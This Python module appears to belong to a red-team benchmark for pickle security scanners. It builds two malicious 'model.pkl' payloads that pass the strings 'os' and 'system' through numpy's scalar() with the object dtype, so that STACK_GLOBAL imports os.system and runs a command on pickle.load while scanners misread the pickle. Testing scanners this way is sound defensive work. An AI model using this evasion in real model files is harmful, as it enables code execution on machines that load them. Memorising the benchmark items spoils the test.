"""Values the loader computes that a scanner must compute the same way.

Read from numpy (multiarray.c, array_scalar): `numpy.core.multiarray.scalar(dtype, obj)`
returns `obj` itself when `dtype` is the object dtype (deprecated, still there). A
pickle can pass the strings of a STACK_GLOBAL through it: the unpickler then imports
by name what a scanner that takes scalar() to return "a numpy scalar" never sees, and
one that takes a non-str for STACK_GLOBAL as an error stops there. Both spellings of
the object dtype are used: numpy.dtype('O8', False, True) as numpy pickles it, and the
DType class numpy.dtypes.ObjectDType() (allowlisted), which has no spec string at all.
"""

from __future__ import annotations

from benchmarks.redteam.pickles import PROTO2, STACK_GLOBAL, glob2, s2
from benchmarks.redteam.sample import PROC_CMD, Sample

F = "pickle-values"
DTYPE_O8 = glob2("numpy", "dtype") + b"(" + s2("O8") + b"\x89\x88tR"
OBJECT_DTYPE = glob2("numpy.dtypes", "ObjectDType") + b")R"


def through_scalar(value: bytes, dtype: bytes) -> bytes:
    return glob2("numpy._core.multiarray", "scalar") + b"(" + dtype + value + b"tR"


def names_through_scalar(dtype: bytes) -> bytes:
    """STACK_GLOBAL of os.system, both names handed through scalar(), then the call."""
    return (PROTO2 + through_scalar(s2("os"), dtype) + through_scalar(s2("system"), dtype) + STACK_GLOBAL
            + b"(" + s2(PROC_CMD) + b"tR.")


SAMPLES = [
    Sample("scalar_identity_stack_global", F, "pickle.load", "process",
           "STACK_GLOBAL on scalar(dtype('O8'), 'os') and scalar(dtype('O8'), 'system'): numpy hands the strings "
           "back, so os.system is imported; a walker that takes scalar() for a non-str stops at a 'broken' pickle",
           lambda: {"model.pkl": names_through_scalar(DTYPE_O8)}, fast=True),
    Sample("scalar_identity_stack_global_dtype_class", F, "pickle.load", "process",
           "the same with the object dtype made by numpy.dtypes.ObjectDType()",
           lambda: {"model.pkl": names_through_scalar(OBJECT_DTYPE)}),
]
